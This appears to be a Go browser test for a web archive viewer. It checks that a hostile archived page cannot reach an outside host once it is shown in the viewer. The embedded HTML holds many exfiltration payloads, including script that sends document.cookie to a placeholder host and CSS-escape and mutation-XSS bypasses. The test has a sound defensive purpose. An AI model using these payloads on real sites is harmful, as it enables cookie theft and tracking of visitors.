package viewer

import (
	"context"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/cairn-recorder/cairn"
	"github.com/cairn-recorder/cairn/capture/capturetest"
)

// hostile does what a page can do to call HOME or to read who is looking.
const hostile = `<!DOCTYPE html><html><head><base href="HOME/base/"><meta http-equiv="refresh" content="1;url=HOME/refresh">
<link rel="dns-prefetch" href="HOME"><link rel="preconnect" href="HOME"><link rel="prefetch" href="HOME/prefetch"><link rel="preload" as="image" href="HOME/preload">
<link rel="modulepreload" href="HOME/module.js"><link rel="icon" href="HOME/icon"><link rel="manifest" href="HOME/manifest"><link rel="prerender" href="HOME/prerender">
<link rel="stylesheet" href="HOME/sheet.css"><style>@import "HOME/imported.css"; @import url(HOME/imported2.css); @font-face{font-family:f;src:url(HOME/font.woff)} body{background:url(HOME/body.png);font-family:f}
p{background:\75rl(HOME/escaped.png)} @\69mport "HOME/escaped.css"; a{cursor:url(HOME/cursor),auto} ul{list-style-image:url(HOME/bullet)}</style>
<script>fetch("HOME/fetch?"+document.cookie);new Image().src="HOME/image?"+localStorage.length;navigator.sendBeacon("HOME/beacon",document.cookie);location="HOME/location"</script>
<script type="speculationrules">{"prefetch":[{"urls":["HOME/speculated"]}]}</script><script src="HOME/script.js"></script></head>
<body background="HOME/background" onload="location='HOME/onload'" onclick="location='HOME/onclick'">
<a href="HOME/link" ping="HOME/ping" target="_top" style="position:fixed;inset:0;z-index:9">everywhere</a>
<img src="HOME/picture.png" onerror="location='HOME/onerror'"><img srcset="HOME/set.png 1x, HOME/set2.png 2x"><picture><source srcset="HOME/source.png"><img src="x"></picture>
<iframe src="HOME/frame"></iframe><iframe srcdoc="<img src='HOME/srcdoc'>"></iframe><object data="HOME/object"></object><embed src="HOME/embed"><applet code="HOME/applet"></applet>
<video src="HOME/film" poster="HOME/poster" autoplay></video><audio src="HOME/sound" autoplay></audio><video><source src="HOME/film2"><track src="HOME/track" default></video>
<svg xmlns="http://www.w3.org/2000/svg"><script>location="HOME/svgscript"</script><image href="HOME/svgimage"/><use href="HOME/use#x"/><style>g{fill:url(HOME/fill#a)}</style></svg>
<math><mtext><style><img src="HOME/mutated" onerror="location='HOME/mutated2'"></style></mtext></math>
<form action="HOME/form" id="f"><input type="image" src="HOME/button"><input autofocus onfocus="location='HOME/focus'"></form>
<noscript><img src="HOME/noscript"><meta http-equiv="refresh" content="0;url=HOME/noscriptrefresh"></noscript><noscript><style>b{background:url(HOME/noscriptstyle)}</style><p title="</noscript><img src=HOME/broken>"></noscript>
<p style="background-image:url('HOME/styled')">words</p><b style="background:image-set('HOME/imageset' 1x)">bold</b><table background="HOME/table"><tr><td background="HOME/cell">c</table>
<a href="javascript:location='HOME/javascript'">run</a><img src="javascript:location='HOME/jsimg'"><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='HOME/datasvg'/></svg>">
<img src="/kept.png"><img src="//127.0.0.1:1/schemeless"><template><img src="HOME/template"></template><xmp><img src="HOME/xmp"></xmp><textarea></textarea><img src="HOME/textarea"></body></html>`

// dot is a picture of one point.
var dot = []byte("GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")

// pile is a shelf of one page, whose archive has kept.png and nothing else.
type pile struct {
	page  Page
	mutex sync.Mutex
	asked map[string]bool
}

func (p *pile) Page(context.Context, string) (Page, error) { return p.page, nil }

func (p *pile) Part(_ context.Context, _, address string) (Page, error) {
	p.mutex.Lock()
	defer p.mutex.Unlock()
	p.asked[address] = true
	if strings.HasSuffix(address, "/kept.png") {
		return Page{Content: dot, Media: "image/png"}, nil
	}
	return Page{}, cairn.ErrNotFound
}

// home notes who calls.
type home struct {
	mutex sync.Mutex
	calls []string
}

func (h *home) ServeHTTP(_ http.ResponseWriter, r *http.Request) {
	h.mutex.Lock()
	h.calls = append(h.calls, r.Method+" "+r.URL.String())
	h.mutex.Unlock()
}

func (h *home) called() []string {
	h.mutex.Lock()
	defer h.mutex.Unlock()
	return h.calls
}

// TestAHostilePageCannotCallHome shows a hostile page in a real browser, raw and
// through the viewer, clicks on it, and listens at its home.
func TestAHostilePageCannotCallHome(t *testing.T) {
	in := capturetest.Browser(t)
	for name, c := range map[string]struct {
		through bool
		calls   bool
	}{"as it is": {false, true}, "in the viewer": {true, false}} {
		t.Run(name, func(t *testing.T) {
			h := &home{}
			server := httptest.NewServer(h)
			defer server.Close()
			shown := strings.ReplaceAll(hostile, "HOME", server.URL)
			p := &pile{page: Page{[]byte(shown), "text/html; charset=utf-8", "http://valley.example/a/page"}, asked: map[string]bool{}}
			var pages http.Handler = New(p, []byte("drawn"))
			if !c.through {
				pages = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
					w.Header().Set("Content-Type", "text/html; charset=utf-8")
					_, _ = w.Write([]byte(shown))
				})
			}
			desk := httptest.NewServer(withSession(pages))
			defer desk.Close()
			tab, stop := chromedp.NewContext(in)
			defer stop()
			if err := chromedp.Do(tab, chromedp.Navigate(desk.URL+"/session"), chromedp.Navigate(desk.URL+"/pages/d1"), chromedp.Sleep(1500*time.Millisecond),
				chromedp.MouseClickXY(200, 200), chromedp.Sleep(time.Second)); err != nil && c.through {
				t.Fatal(err)
			}
			calls := h.called()
			if c.calls != (len(calls) > 0) {
				t.Errorf("home was called %d times: %v", len(calls), calls)
			}
			if c.through && !p.asked[server.URL+"/kept.png"] {
				t.Errorf("what the archive has was not asked of it: %v", p.asked)
			}
		})
	}
}

// withSession gives a browser a session at /session, as a desk on this machine
// does; browsers send it to every port.
func withSession(pages http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/session" {
			http.SetCookie(w, &http.Cookie{Name: "session", Value: "of-ana", Path: "/"})
			return
		}
		pages.ServeHTTP(w, r)
	})
}
